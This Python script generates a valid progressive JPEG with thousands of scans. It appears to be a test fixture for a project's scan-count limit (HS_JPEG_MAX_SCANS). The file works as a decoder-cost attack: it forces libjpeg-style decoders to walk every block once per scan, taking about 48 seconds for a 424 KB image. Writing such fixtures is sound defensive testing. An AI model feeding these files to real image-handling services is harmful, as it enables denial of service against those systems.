#!/usr/bin/env python3
"""Writes a valid progressive JPEG with many scans: the decoder-cost attack that
HS_JPEG_MAX_SCANS (Sources/C/CImageShim/jpeg.c) refuses.

The image is uniform mid-grey, 3 components 4:4:4, so every DCT coefficient is 0. The scan
script is as long as a valid progression allows (ITU T.81 G.1.1.1, libjpeg jdphuff.c):
a DC first scan with successive approximation Al = DC_AL and one DC refinement scan per bit
below it, then for each component and each AC coefficient k (1..63, one per scan) a first scan
at Al = 13 and 13 refinement scans down to Al = 0: 1 + 13 + 3 * 63 * 14 = 2660 scans. Every
scan is legal and raises no libjpeg warning, but each one walks every block of the image, so
decoding costs about (scans x blocks). DC scans carry one bit per block; AC scans carry only
end-of-band runs (EOBn codes), a few bytes each. `--scans N` keeps the first N scans (any
prefix of a valid progression is valid).

    make_many_scan_jpeg.py OUT.jpg [--width W] [--height H] [--scans N] [--dc-al A]

2048 x 2048 with all 2660 scans is a 424 KB file (about 48 s to decode with libjpeg-turbo
2.1.5 on one core, were it not refused).
"""
import argparse
import struct

AC_AL = 13  # largest successive-approximation shift T.81 allows for 8-bit samples


class BitWriter:
    """Entropy-coded segment bits, MSB first, 0xFF stuffed with 0x00, padded with 1-bits."""

    def __init__(self):
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def bits(self, value, count):
        for i in range(count - 1, -1, -1):
            self.acc = (self.acc << 1) | ((value >> i) & 1)
            self.n += 1
            if self.n == 8:
                self._byte(self.acc)
                self.acc = 0
                self.n = 0

    def zeros(self, count):
        # fast path for long runs of 0 bits (DC scans): whole zero bytes
        while count and self.n:
            self.bits(0, 1)
            count -= 1
        self.out += bytes(count // 8)
        self.bits(0, count % 8)

    def _byte(self, b):
        self.out.append(b)
        if b == 0xFF:
            self.out.append(0)

    def finish(self):
        if self.n:
            self.bits((1 << (8 - self.n)) - 1, 8 - self.n)
        return bytes(self.out)


def segment(marker, payload):
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def scans(width, height, dc_al):
    """(SOS payload, entropy-coded data) for every scan of the script, in order."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)  # per component (4:4:4), and MCUs
    # DC first scan, 3 components interleaved: DC table 0 has one symbol (category 0, code "0")
    w = BitWriter()
    w.zeros(3 * blocks)
    head = bytes([3, 1, 0x00, 2, 0x00, 3, 0x00, 0, 0, (0 << 4) | dc_al])
    yield head, w.finish()
    # DC refinement scans: one raw correction bit per block
    for ah in range(dc_al, 0, -1):
        w = BitWriter()
        w.zeros(3 * blocks)
        yield bytes([3, 1, 0x00, 2, 0x00, 3, 0x00, 0, 0, (ah << 4) | (ah - 1)]), w.finish()
    # AC scans: one component, one coefficient, every block an end-of-band run
    for comp in (1, 2, 3):
        for k in range(1, 64):
            for ah, al in [(0, AC_AL)] + [(a, a - 1) for a in range(AC_AL, 0, -1)]:
                w = BitWriter()
                left = blocks
                while left:
                    run = min(left, (1 << 15) - 1)  # EOB14 covers at most 32767 blocks
                    r = run.bit_length() - 1
                    w.bits(r, 4)  # AC table: symbol (r << 4) has the 4-bit code r
                    w.bits(run - (1 << r), r)
                    left -= run
                yield bytes([1, comp, 0x00, k, k, (ah << 4) | al]), w.finish()


def many_scan_jpeg(width, height, max_scans=None, dc_al=13):
    out = bytearray(b"\xFF\xD8")
    out += segment(0xDB, bytes([0]) + bytes([1] * 64))  # one quantisation table of 1s
    sof = struct.pack(">BHHB", 8, height, width, 3) + b"".join(bytes([c, 0x11, 0]) for c in (1, 2, 3))
    out += segment(0xC2, sof)  # SOF2: progressive, Huffman
    dc = bytes([0x00]) + bytes([1] + [0] * 15) + bytes([0])  # DC table 0: symbol 0, 1-bit code
    ac = bytes([0x10]) + bytes([0, 0, 0, 15] + [0] * 12) + bytes(r << 4 for r in range(15))
    out += segment(0xC4, dc + ac)  # AC table 0: EOB0..EOB14, 4-bit codes 0..14
    for i, (head, data) in enumerate(scans(width, height, dc_al)):
        if max_scans is not None and i >= max_scans:
            break
        out += segment(0xDA, head) + data
    out += b"\xFF\xD9"
    return bytes(out)


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("out")
    p.add_argument("--width", type=int, default=2048)
    p.add_argument("--height", type=int, default=2048)
    p.add_argument("--scans", type=int, default=None, help="keep the first N scans (default: all)")
    p.add_argument("--dc-al", type=int, default=13, help="DC successive approximation (0-13)")
    a = p.parse_args()
    with open(a.out, "wb") as f:
        f.write(many_scan_jpeg(a.width, a.height, a.scans, a.dc_al))


if __name__ == "__main__":
    main()
